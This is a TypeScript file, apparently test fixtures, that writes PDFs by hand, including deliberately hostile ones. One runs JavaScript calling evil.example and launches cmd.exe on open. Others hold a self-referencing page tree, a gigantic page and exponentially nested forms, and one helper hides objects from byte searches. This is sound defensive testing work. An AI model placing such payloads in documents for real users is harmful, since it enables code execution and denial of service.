import { deflateSync } from 'node:zlib'

/** PDF files written by hand: each object as it stands, with a table of contents that is true. */
export function pdf(...objects: string[]): Buffer {
  let text = '%PDF-1.7\n'
  const places = objects.map((object, number) => {
    const place = text.length
    text += `${number + 1} 0 obj\n${object}\nendobj\n`
    return `${String(place).padStart(10, '0')} 00000 n \n`
  })
  const table = text.length
  const size = objects.length + 1
  return Buffer.from(
    `${text}xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}trailer<</Size ${size}/Root 1 0 R>>\nstartxref\n${table}\n%%EOF\n`,
    'latin1',
  )
}

export const pdfStream = (body: string, dictionary = '') => `<<${dictionary}/Length ${body.length}>>stream\n${body}\nendstream`
/** An object inside a compressed stream, where a search of the bytes does not find it. */
export function compressedObject(number: number, object: string): string {
  const head = `${number} 0 `
  return pdfStream(deflateSync(Buffer.from(head + object, 'latin1')).toString('latin1'), `/Type/ObjStm/N 1/First ${head.length}/Filter/FlateDecode`)
}

const pages = '<</Type/Pages/Kids[3 0 R]/Count 1>>'
const page = (box: string, more = '') => `<</Type/Page/Parent 2 0 R/MediaBox[${box}]/Contents 4 0 R${more}>>`
const form = (below: number, body: string) => pdfStream(body, `/Type/XObject/Subtype/Form/BBox[0 0 300 300]/Resources<</XObject<</X ${below} 0 R>>>>`)

export const hostilePdf = {
  /** Wants to run a script and to start a program when it is opened. */
  script: pdf(
    '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1);fetch("http://evil.example"))>>>>',
    pages,
    page('0 0 300 300', '/Resources<</Font<</F 5 0 R>>>>/AA<</O<</S/Launch/F(cmd.exe)>>>>'),
    pdfStream('1 0 0 rg 0 0 300 150 re f BT 0 0 1 rg /F 24 Tf 20 200 Td (Hello) Tj ET'),
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
  ),
  /** A page of three kilometres. */
  huge: pdf('<</Type/Catalog/Pages 2 0 R>>', pages, page('0 0 9000000 9000000'), pdfStream('0 0 1 rg 0 0 9000000 5000000 re f')),
  /** Pages that contain themselves. */
  circle: pdf('<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 99999999>>'),
  /** Ten pictures of ten pictures of ten pictures: more than any machine ever draws. */
  tower: pdf(
    '<</Type/Catalog/Pages 2 0 R>>',
    pages,
    page('0 0 300 300', '/Resources<</XObject<</X 5 0 R>>>>'),
    pdfStream('/X Do'),
    ...Array.from({ length: 30 }, (_, floor) => form(6 + floor, floor < 29 ? '/X Do '.repeat(10) : '0 0 9 9 re f')),
  ),
  junk: Buffer.from('%PDF-1.4\nnothing'),
} as const
